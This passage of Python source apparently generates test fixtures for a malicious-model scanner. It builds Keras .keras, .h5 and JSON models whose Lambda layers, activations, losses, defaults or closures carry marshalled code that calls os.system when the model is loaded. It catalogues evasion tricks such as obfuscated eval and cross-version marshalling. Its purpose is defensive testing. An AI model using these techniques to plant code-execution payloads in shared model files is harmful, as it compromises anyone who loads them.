        name,
        c.outdir / name,
        MALICIOUS,
        KIND_KERAS_DIR,
        "unzipped .keras directory, top-level Lambda",
        code_python=b.python,
    )

    name = "mal_json"
    b = blob(name)
    derive_json(top["json"], c.path(name, ".json"), swap_lambda(b))
    c.add(
        name,
        c.path(name, ".json"),
        MALICIOUS,
        KIND_KERAS3_JSON,
        "bare Keras 3 to_json file, top-level Lambda",
        code_python=b.python,
    )

    for style, note in (
        (
            "os_system",
            "lambda x: os.system(...) without import (Keras 3 func_load globals include os)",
        ),
        ("exec", "lambda x: exec(\"__import__('os').system(...)\")"),
        ("getattr_eval", "getattr(__builtins__, ''.join(['ev','al'])) trick; no 'eval' name"),
    ):
        name = f"mal_{style}_keras"
        b = blob(name, style)
        derive_keras_zip(top["keras"], c.path(name, ".keras"), swap_lambda(b))
        c.add(name, c.path(name, ".keras"), MALICIOUS, KIND_KERAS_ZIP, note, code_python=b.python)

    for variant, note in (
        ("nested", "Lambda inside a nested functional sub-model"),
        ("timedistributed", "TimeDistributed(Lambda(...)); payload in the wrapped layer"),
    ):
        name = f"mal_{variant}_keras"
        b = blob(name)
        derive_keras_zip(benign[variant]["keras"], c.path(name, ".keras"), swap_lambda(b))
        c.add(name, c.path(name, ".keras"), MALICIOUS, KIND_KERAS_ZIP, note, code_python=b.python)

    name = "mal_noref_keras"
    b = host_blob(payload_source("import_system", name), flag_ref=False)
    derive_keras_zip(top["keras"], c.path(name, ".keras"), swap_lambda(b))
    c.add(
        name,
        c.path(name, ".keras"),
        MALICIOUS,
        KIND_KERAS_ZIP,
        "Python 3.11 code marshalled without FLAG_REF: first byte 0x63, base64 'Yw' like "
        "Python 2 code (version must not be guessed from the first byte alone)",
        code_python=b.python,
    )

    name = "mal_nested_h5"
    b = blob(name)
    derive_h5(benign["nested"]["h5"], c.path(name, ".h5"), swap_lambda(b))
    c.add(
        name,
        c.path(name, ".h5"),
        MALICIOUS,
        KIND_KERAS3_H5,
        "Keras 3 legacy .h5, Lambda inside nested sub-model",
        code_python=b.python,
    )

    name = "mal_output_shape_keras"
    b = blob(name)
    derive_keras_zip(
        benign["shape_mask"]["keras"], c.path(name, ".keras"), swap_lambda(b, key="output_shape")
    )
    c.add(
        name,
        c.path(name, ".keras"),
        MALICIOUS,
        KIND_KERAS_ZIP,
        "payload only in the Lambda's output_shape lambda (function and mask stay benign)",
        code_python=b.python,
    )

    name = "mal_bidirectional_keras"
    b = blob(name)
    derive_keras_zip(
        clean["complex_keras"], c.path(name, ".keras"), set_lambda_activation("LSTM", b)
    )
    c.add(
        name,
        c.path(name, ".keras"),
        MALICIOUS,
        KIND_KERAS_ZIP,
        "Bidirectional(LSTM): forward and backward LSTM activation = __lambda__ {'value': "
        "[...]} (Keras cannot build this from a live lambda; edited in)",
        code_python=b.python,
    )

    name = "mal_activation_value_keras"
    b = blob(name)
    derive_keras_zip(benign["activation"]["keras"], c.path(name, ".keras"), swap_lambda(b))
    c.add(
        name,
        c.path(name, ".keras"),
        MALICIOUS,
        KIND_KERAS_ZIP,
        "Dense activation in the bare {'value': [b64, null, null]} form Keras writes",
        code_python=b.python,
    )

    name = "mal_defaults_activation_keras"
    b = blob(name, "defaults")
    derive_keras_zip(
        benign["activation"]["keras"],
        c.path(name, ".keras"),
        set_lambda_activation("Dense", b, defaults=[marker_command(name)]),
    )
    c.add(
        name,
        c.path(name, ".keras"),
        MALICIOUS,
        KIND_KERAS_ZIP,
        "code lambda x, c=None: os.system(c) or x; the command is only in the defaults of "
        "__lambda__ {'value': [code, [cmd], null]}",
        code_python=b.python,
    )

    name = "mal_closure_keras"
    b = blob(name, "closure")
    derive_keras_zip(
        benign["closure"]["keras"],
        c.path(name, ".keras"),
        swap_lambda(b, closure=[marker_command(name)]),
    )
    c.add(
        name,
        c.path(name, ".keras"),
        MALICIOUS,
        KIND_KERAS_ZIP,
        "code calls os.system(c) on a free variable; the command is only in 'closure'",
        code_python=b.python,
    )

    name = "mal_compile_config_keras"
    b = blob(name)
    derive_keras_zip(benign["loss"]["keras"], c.path(name, ".keras"), swap_lambda(b, key="loss"))
    c.add(
        name,
        c.path(name, ".keras"),
        MALICIOUS,
        KIND_KERAS_ZIP,
        "compile_config.loss = __lambda__ {'value': [...]} (runs when the loss is called)",
        code_python=b.python,
    )

    name = "mal_training_config_h5"
    b = blob(name)
    derive_h5(benign["loss"]["h5"], c.path(name, ".h5"), set_loss(b), attr="training_config")
    c.add(
        name,
        c.path(name, ".h5"),
        MALICIOUS,
        KIND_KERAS3_H5,
        "training_config attr: loss = __lambda__ {'value': [...]}; model_config is clean",
        code_python=b.python,
    )

    # Code marshalled by other Pythons (skipped when the pyenv interpreter is missing).
    name = "mal_py313_keras"
    foreign = c.payload(name, "import_system", "3.13")
    if foreign is not None:
        derive_keras_zip(top["keras"], c.path(name, ".keras"), swap_lambda(foreign))
        c.add(
            name,
            c.path(name, ".keras"),
            MALICIOUS,
            KIND_KERAS_ZIP,
            "top-level Lambda, code marshalled by Python 3.13",
            code_python="3.13",
        )
    name = "mal_py312_timedistributed_h5"
    foreign = c.payload(name, "import_system", "3.12")
    if foreign is not None:
        derive_h5(benign["timedistributed"]["h5"], c.path(name, ".h5"), swap_lambda(foreign))
        c.add(
            name,
            c.path(name, ".h5"),
            MALICIOUS,
            KIND_KERAS3_H5,
            "Keras 3 legacy .h5, TimeDistributed(Lambda), code marshalled by Python 3.12",
            code_python="3.12",
        )


def _build_malicious_legacy(c: _Corpus) -> None:
    """tf.keras / Keras 2 shapes, fabricated with h5py and json."""
    name = "mal_tfkeras_py38_h5"
    b = c.payload(name, "import_system", "3.8")
    if b is not None:
        cfg = tfkeras_model_config(tfkeras_lambda_config([b.b64, None, None]))
        write_tfkeras_h5(c.path(name, ".h5"), cfg, attr_style="fixed")
        c.add(
            name,
            c.path(name, ".h5"),
            MALICIOUS,
            KIND_TFKERAS_H5,
            "tf.keras list form [code, null, null], function_type 'lambda', module "
            "'__main__', attrs as fixed-length bytes (h5py 2.x), code from Python 3.8",
            code_python="3.8",
        )

    name = "mal_tfkeras_str_h5"
    b = c.payload(name, "import_system", "3.10") or c.payload(name, "import_system")
    assert b is not None
    cfg = tfkeras_model_config(tfkeras_lambda_config([b.b64, None, None]))
    write_tfkeras_h5(c.path(name, ".h5"), cfg, attr_style="vlen-utf8")
    c.add(
        name,
        c.path(name, ".h5"),
        MALICIOUS,
        KIND_TFKERAS_H5,
        "tf.keras list form, attrs as str (variable-length UTF-8)",
        code_python=b.python,
    )

    name = "mal_tfkeras_defaults_h5"
    b = c.payload(name, "defaults_module")
    assert b is not None
    cfg = tfkeras_model_config(
        tfkeras_lambda_config([b.b64, [marker_command(name)], None], module="os")
    )
    write_tfkeras_h5(c.path(name, ".h5"), cfg)
    c.add(
        name,
        c.path(name, ".h5"),
        MALICIOUS,
        KIND_TFKERAS_H5,
        "code lambda x, c=None: system(c) or x with module 'os' (tf.keras merges os.__dict__ "
        "into the globals); the command is only in defaults",
        code_python=b.python,
    )

    name = "mal_tfkeras_function_ref_h5"
    ref = {
        "module": "os",
        "class_name": "function",
        "config": "system",
        "registered_name": "function",
    }
    cfg = tfkeras_model_config(tfkeras_lambda_config(ref, function_type="function", module="os"))
    write_tfkeras_h5(c.path(name, ".h5"), cfg, attr_style="vlen-ascii")
    c.add(
        name,
        c.path(name, ".h5"),
        MALICIOUS,
        KIND_TFKERAS_H5,
        "function_type 'function' referencing os.system as {module, class_name: function, "
        "config} (tf-keras >= 2.13 shape), attrs vlen ASCII (h5py 3); no code, no marker",
        marker=False,
    )

    name = "mal_tfkeras_legacy_function_ref_h5"
    cfg = tfkeras_model_config(
        tfkeras_lambda_config("system", function_type="function", module="os")
    )
    write_tfkeras_h5(c.path(name, ".h5"), cfg, keras_version="2.4.0")
    c.add(
        name,
        c.path(name, ".h5"),
        MALICIOUS,
        KIND_TFKERAS_H5,
        "legacy function reference: function 'system', function_type 'function', module "
        "'os'; no code blob, no marker",
        marker=False,
    )

    name = "mal_keras211_raw_h5"
    b = c.payload(name, "import_system", "3.6") or c.payload(name, "import_system", "2.7")
    if b is not None:
        cfg = keras21_model_config([b.raw_unicode_escape, None, None])
        write_tfkeras_h5(c.path(name, ".h5"), cfg, keras_version="2.1.1")
        c.add(
            name,
            c.path(name, ".h5"),
            MALICIOUS,
            KIND_KERAS21_H5,
            "Keras <= 2.1.1: code = marshal.dumps(code).decode('raw_unicode_escape') (not "
            f"base64), Sequential config is a list, code from Python {b.python}",
            code_python=b.python,
        )

    name = "mal_tfkeras_py27_h5"
    b = c.payload(name, "import_system", "2.7")
    if b is not None:
        cfg = tfkeras_model_config(tfkeras_lambda_config([b.b64, None, None]))
        write_tfkeras_h5(c.path(name, ".h5"), cfg, keras_version="2.2.4")
        c.add(
            name,
            c.path(name, ".h5"),
            MALICIOUS,
            KIND_TFKERAS_H5,
            "Keras 2.2.4 list form, code marshalled by Python 2.7 (base64 starts 'Yw')",
            code_python="2.7",
        )

    name = "mal_tuple_json"
    b = c.payload(name, "import_system")
    assert b is not None
    tuple_fn = {"class_name": "__tuple__", "items": [b.b64, None, None]}
    doc = tfkeras_model_config(tfkeras_lambda_config(tuple_fn))
    doc.update(keras_version="2.15.0", backend="tensorflow")
    c.path(name, ".json").write_text(json.dumps(doc), encoding="utf-8")
    c.add(
        name,
        c.path(name, ".json"),
        MALICIOUS,
        KIND_TFKERAS_JSON,
        "tf.keras JSON whose Lambda function is {'class_name': '__tuple__', 'items': "
        "[b64, null, null]} (json_utils tuple encoding)",
        code_python=b.python,
    )


def build_keras_corpus(outdir: Path) -> dict[str, Sample]:
    """Build every Keras fixture under ``outdir``; return ``{name: Sample}``."""
    keras = import_keras()
    outdir.mkdir(parents=True, exist_ok=True)
    corpus = _Corpus(outdir)
    keras.utils.set_random_seed(1234)
    clean = _build_clean(corpus)
    benign = _build_benign(corpus)
    _build_malicious_keras3(corpus, clean, benign)
    _build_malicious_legacy(corpus)
    return corpus.samples


# --------------------------------------------------------------------------------------------
# Bundled examples (used by scripts/make_examples.py)
# --------------------------------------------------------------------------------------------

EXAMPLE_MARKER_NAME = "malicious_lambda"


def write_examples(outdir: Path) -> dict[str, Path]:
    """Write the three small example models shipped in ``examples/``."""
    keras = import_keras()
    outdir.mkdir(parents=True, exist_ok=True)
    written: dict[str, Path] = {}

    keras.backend.clear_session()
    keras.utils.set_random_seed(0)
    clean = outdir / "clean_dense.keras"
    save_model(build_dense_model(), clean)
    normalize_keras_zip(clean)
    written["clean_dense"] = clean

    keras.backend.clear_session()
    keras.utils.set_random_seed(0)
    lambda_model = build_lambda_model("toplevel")
    tensor_math = outdir / "tensor_math_lambda.keras"
    save_model(lambda_model, tensor_math)
    normalize_keras_zip(tensor_math)
    written["tensor_math_lambda"] = tensor_math

    benign_h5 = outdir / "tensor_math_lambda.tmp.h5"
    save_model(lambda_model, benign_h5)
    malicious = outdir / "malicious_lambda.h5"
    payload = host_blob(payload_source("import_system", EXAMPLE_MARKER_NAME))
    swap = swap_lambda(payload)

    def edit(tree: Json) -> int:
        renumber_shared_ids(tree)
        return swap(tree)

    derive_h5(benign_h5, malicious, edit)
    benign_h5.unlink()
    written["malicious_lambda"] = malicious
    return written
